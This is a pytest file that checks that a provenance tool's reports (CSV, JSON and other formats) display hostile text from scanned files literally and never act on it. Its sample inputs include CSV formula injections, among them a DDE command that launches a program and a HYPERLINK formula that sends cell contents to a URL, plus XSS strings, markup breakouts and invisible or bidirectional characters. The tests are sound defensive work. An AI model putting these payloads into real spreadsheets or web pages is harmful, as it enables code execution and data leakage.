"""What stands in a file is shown in every format, and obeyed in none."""

from __future__ import annotations

import csv
import io
import json

import pytest

from provenance.reports.faces import Format
from provenance.reports.to_csv import MARK
from tests.conftest import VECTORS
from tests.support.campaign import cases
from tests.support.reports import check, write
from tests.unit.reports import hostile

BUILT_IN = {
    "formula": "=1+1",
    "command": "=cmd|' /C calc'!A0",
    "link of a spreadsheet": '=HYPERLINK("http://example.org?"&A1,"click")',
    "plus": "+1",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "formula after blanks": "  \u3000=1+1",
    "formula after a tab": "\t=1+1",
    "formula after a carriage return": "\r=1+1",
    "formula in full width": "＝1+1",
    "others in full width": "＋1;－1;＠1",
    "formula in the next cell": 'x,"=1+1;=1+1\t=1+1|=1+1;;=1',
    "quotes": "\"'\"'=1\"",
    "minus sign": "−1",
    "script": "<script>alert(1)</script>",
    "event": '"><img src=x onerror=alert(1)>',
    "entity": "&lt;script&gt; &#x3c; &amp;",
    "cdata": "]]><failure/><![CDATA[",
    "link": "[click](javascript:alert(1)) ![x](http://example.org/x.png) <http://example.org>",
    "reference": "[a]: http://example.org\n\n[a]",
    "bare address": "www.example.org http://example.org/?a=b mailto:a@example.org a@example.org ftp://x.org",
    "table": "a | b \\| c || d |",
    "code": "`a``b```c` ``` ~~~",
    "ends with a backslash": "a\\",
    "a lone backtick": "`",
    "emphasis": "**a** __b__ ~~c~~ *d* _e_",
    "heading": "# a\n## b\n- c\n1. d\n> e\n---",
    "mentions": "@team #12 GH-12 org/repo#1 deadbeefdeadbeefdeadbeefdeadbeefdeadbeef :tada: $x$",
    "placeholder": "{0} {{1}} }{ [x](sarif:/runs/0)",
    "control characters": "".join(map(chr, range(32))) + "\x7f\x80\x85\x9b",
    "bidi and tags": "\u202egpj\u2066\u2069\u200e\U000e0041\ufeff\u200b",
    "not in XML": "\ufffe\uffff\ud800",
    "letters drawn as nothing": "\u3164\u115f\u2800",
    "rich markup": "[red]x[/red] :smile:",
    "empty": "",
    "long": "A" * 40_000,
}  # fmt: skip


SIMILAR = {
    "command", "plus", "formula after a carriage return", "others in full width", "minus sign", "event", "entity",
    "code", "a lone backtick", "emphasis", "letters drawn as nothing",
}  # fmt: skip
"""Each resembles another one that the default run tries in every format."""
USUAL = {name: text for name, text in BUILT_IN.items() if name not in SIMILAR}
OF_OTHERS = {
    f"{path.stem}-{number}": line
    for path in sorted((VECTORS / "attacks").glob("*.txt"))
    for number, line in enumerate(path.read_bytes().decode("utf-8", "surrogateescape").split("\n"))
}
TEXTS = BUILT_IN | OF_OTHERS


@cases("text", USUAL, more=TEXTS)
@pytest.mark.parametrize("how", list(Format))
def test_no_text_from_a_file_is_obeyed(how, text):
    results = hostile.results(text)
    check(how, write(how, results), results)


@pytest.mark.parametrize("name", [name for name, text in TEXTS.items() if "\ud800" not in text])
def test_json_gives_back_what_stood_in_the_file(name):
    text = TEXTS[name]
    results = hostile.results(text)
    judged, *_, failed = json.loads(write(Format.JSON, results))["files"]
    edit, finding = judged["history"]["edits"][0], judged["findings"][-2]
    assert (judged["file"], edit["title"] or "", edit["signature"]["organization"]) == (text, text, text)
    assert (edit["actions"][0]["description"], finding["message"], finding["subject"]) == (text, text, text)
    assert judged["policy"]["name"] == text
    assert text in failed["error"]


def test_a_cell_is_still_read_as_what_it_was():
    results = hostile.results("Zoë, “desk” – =5 −3 1;2")
    rows = list(csv.DictReader(io.StringIO(write(Format.CSV, results).removeprefix(MARK), newline="")))
    assert {row["file"] for row in rows} == {"Zoë, “desk” – =5 −3 1;2"}


def test_the_attacks_of_others_are_there_or_it_is_said():
    if not (VECTORS / "attacks").is_dir():
        pytest.skip("../shared/vectors is not there")
    assert len(OF_OTHERS) > 20
